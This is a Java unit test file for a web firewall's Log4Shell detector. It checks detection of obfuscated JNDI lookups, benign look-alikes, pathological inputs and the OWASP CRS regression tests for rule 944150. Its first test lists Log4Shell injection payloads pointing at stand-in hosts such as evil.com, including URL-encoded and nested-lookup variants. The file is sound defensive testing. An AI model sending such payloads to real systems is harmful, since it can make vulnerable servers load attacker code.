package dev.bastion.waf;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import dev.bastion.testing.Corpora;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The Log4Shell detector on the obfuscations it exists for, on benign text that looks close, and on the
 * OWASP CRS regression tests of rule 944150 (third-party data, read from $BASTION_CORPORA).
 */
class Log4ShellDetectorTest {
    @ParameterizedTest
    @ValueSource(strings = {
            "${jndi:ldap://evil.com/a}", "${JNDI:LDAP://evil.com/a}", "${ jndi:rmi://x/y}", "${ctx:loginId}",
            "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}", "${${env:NOPE:-j}ndi:dns://x}",
            "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "%2524%257Bjndi:ldap://x%257D", "$\\u007Bjndi:ldap://x}", "&dollar;&lbrace;jndi:ldap://x}",
            "&#36;{jndi:ldap://x}", "${${upper:j}${lower:N}di:iiop://x}"})
    void attacksAreCaught(String value) {
        assertThat(Log4ShellDetector.matches(value)).isTrue();
        // The rule's prefilter is the detector's NEEDS: an attack without one of them would never reach it.
        assertThat(new PhraseMatcher(Log4ShellDetector.NEEDS).find(value)).as("what %s needs", value).isNotNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"${HOME}/bin", "price: $5 {discount}", "Use ${VAR} in templates", "the JNDI tutorial", "{\"a\": \"${user.name}\"}",
            "${a} and much later ${b}", "jQuery $(\"#id\") { }", "5$ {x}"})
    void benignTextIsNot(String value) {
        assertThat(Log4ShellDetector.matches(value)).isFalse();
    }

    @Test
    void linearOnHostileInput() {
        assertThat(Log4ShellDetector.matches("${".repeat(1 << 18).replace("{", "{a}"))).isFalse();
        assertThat(Log4ShellDetector.matches("%25".repeat(1 << 18))).isFalse();
    }

    /**
     * Every CRS regression test for rule 944150 (paranoia level 1) that expects it to fire must be caught
     * in one of the request's values (the request line, a header, the body), and every one that expects it
     * not to fire must not be.
     */
    @Test
    void crsRegressionTestsOfRule944150() throws Exception {
        Path file = Corpora.require("crs/tests/regression/tests/REQUEST-944-APPLICATION-ATTACK-JAVA/944150.yaml");
        JsonNode doc = new ObjectMapper(new YAMLFactory()).readTree(Files.readString(file));
        int positives = 0, caught = 0, negatives = 0, clean = 0;
        List<String> missed = new ArrayList<>();
        for (JsonNode test : doc.path("tests")) {
            for (JsonNode stage : test.path("stages")) {
                JsonNode input = stage.path("input"), log = stage.path("output").path("log");
                boolean expect = contains(log.path("expect_ids"), 944150);
                boolean refuse = contains(log.path("no_expect_ids"), 944150);
                if (!expect && !refuse) continue;
                List<String> values = new ArrayList<>();
                values.add(input.path("uri").asText(""));
                input.path("headers").forEach(h -> values.add(h.asText()));
                values.add(input.path("data").asText(""));
                boolean hit = values.stream().anyMatch(Log4ShellDetector::matches);
                if (expect) {
                    positives++;
                    if (hit) caught++;
                    else missed.add("test " + test.path("test_id").asText());
                } else {
                    negatives++;
                    if (!hit) clean++;
                    else missed.add("test " + test.path("test_id").asText() + " (false positive)");
                }
            }
        }
        System.out.printf("CRS 944150: caught %d of %d attacks, %d of %d benign left alone; missed: %s%n", caught, positives, clean, negatives, missed);
        assertThat(positives).isGreaterThan(20);
        assertThat(missed).isEmpty();
    }

    private static boolean contains(JsonNode ids, int id) {
        for (JsonNode n : ids) if (n.asInt() == id) return true;
        return false;
    }
}
